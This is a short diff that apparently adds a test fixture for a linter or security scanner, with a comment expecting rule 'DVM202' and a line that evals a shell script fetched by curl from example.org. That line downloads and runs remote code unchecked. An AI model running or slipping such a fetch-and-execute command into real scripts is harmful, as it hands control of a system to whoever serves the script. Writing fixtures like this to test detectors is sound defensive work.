@@ -1,0 +1,2 @@
+# expect: DVM202
+eval `curl -s https://example.org/env.sh`
